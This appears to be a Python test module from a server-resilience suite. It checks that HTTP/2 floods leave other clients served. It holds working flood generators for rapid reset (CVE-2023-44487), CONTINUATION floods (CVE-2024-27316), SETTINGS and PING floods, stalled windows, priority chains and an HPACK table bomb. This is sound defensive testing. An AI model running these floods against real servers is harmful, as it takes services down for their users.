"""Group E: HTTP/2, frame by frame (RFC 9113; header blocks by RFC 7541)."""

import os
import signal
import socket
import ssl
import struct
from contextlib import contextmanager, suppress

from abuse.cases import LeftOut, Power, case, expect, for_each, in_parallel
from abuse.waiting import wait_for

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
READY_SECONDS = 10


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def literal(name, value):
    """A field that enters no table, of less than 127 bytes each (RFC 7541 §6.2.2)."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def fields(target, path):
    scheme = "https" if target.wire.is_tls else "http"
    pairs = {":method": "GET", ":scheme": scheme, ":authority": target.wire.authority, ":path": path}
    return b"".join(literal(name, value) for name, value in pairs.items())


def request(target, stream, path, flags=END_STREAM | END_HEADERS):
    return frame(HEADERS, flags, stream, fields(target, path))


@contextmanager
def _speaking_http2(target):
    """A target and the port where it speaks HTTP/2: its own, or another one of a server of the suite's own."""
    if len(target.path("w-94")) > 120:
        raise LeftOut("the sample's path is too long for the frames of this case")
    if _speaks(target, target.wire.port):
        yield target, target.wire.port
        return
    if Power.CONFIGURE not in target.powers:
        raise LeftOut("the server does not speak HTTP/2 here (without TLS it usually does not)")
    with target.own() as server:
        port, listen = server.deployment.free_port(), server.instance.state / "nginx" / "listen.conf"
        # As the part with TLS has it, without TLS: frames are the same.
        listen.write_text(listen.read_text() + f"listen 127.0.0.1:{port} http2;\n")
        os.kill(server.instance.pid("nginx"), signal.SIGHUP)
        wait_for(lambda: _speaks(server, port), READY_SECONDS, "HTTP/2")
        yield server, port


def _connected(target, port):
    connection = socket.create_connection((target.wire.host, port), timeout=10)
    if target.wire.is_tls:
        context = ssl.create_default_context()
        context.set_alpn_protocols(["h2"])
        connection = context.wrap_socket(connection, server_hostname=target.wire.host)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def _speaks(target, port):
    try:
        with _connected(target, port) as connection:
            return connection.recv(9)[3:4] == bytes([SETTINGS])
    except OSError:
        return False


def _resets(target):
    for stream in range(1, 4000, 2):
        yield request(target, stream, target.path("w-94")) + frame(RESET, 0, stream, struct.pack("!I", 8))


def _unended_headers(target):
    """CVE-2024-27316: a header block that goes on and on."""
    yield request(target, 1, target.path("w-94"), END_STREAM)
    for _ in range(3000):
        yield frame(CONTINUATION, 0, 1, literal("x-a", "b" * 120) * 100)


def _settings(_):
    for _ in range(20000):
        yield frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 65535))


def _pings(_):
    for _ in range(20000):
        yield frame(PING, 0, 0, bytes(8))


def _stalled_windows(target):
    """Asks for much and lets nothing of it come."""
    yield frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 0))
    for stream in range(1, 400, 2):
        yield request(target, stream, target.path("w-95"))


def _dependencies(_):
    for stream in range(1, 20000, 2):
        yield frame(PRIORITY, 0, stream, struct.pack("!IB", stream + 2, 255))


def _bomb(target):
    """One entry of the table, referred to again and again (RFC 7541 §7.3)."""
    large = b"\x40" + b"\x03x-b" + b"\x7f\x81\x1e" + b"y" * 4000
    for stream in range(1, 40, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, fields(target, "/") + large + b"\xbe" * 12000)


FLOODS = {
    "streams opened and reset": _resets, "headers without end": _unended_headers, "settings": _settings,
    "pings": _pings, "windows that stay shut": _stalled_windows, "priorities": _dependencies,
    "a table that unpacks to much": _bomb,
}  # fmt: skip


@case("E24", "floods of HTTP/2 resets, continuations, settings, pings and shut windows keep nobody from being served",
      seconds=300)  # fmt: skip
def http2_floods(target):
    """Resets: CVE-2023-44487."""
    with _speaking_http2(target) as (server, port):

        def flood(what):
            with suppress(OSError), _connected(server, port) as connection:
                for piece in FLOODS[what](server):
                    connection.sendall(piece)
                connection.settimeout(1)
                while connection.recv(65536):
                    pass

        def act(what):
            def run(number):
                if number:
                    return flood(what)
                return [server.ask(f"w-{84 + count}").status for count in range(10)]

            statuses = in_parallel(7, run)[0]
            # What was reset has not been taken back yet; a refusal is honest, silence is not.
            expect(statuses.count(200) >= 8 and set(statuses) <= {200, 503}, f"{what}: others were answered {statuses}")

        for_each(FLOODS, act)
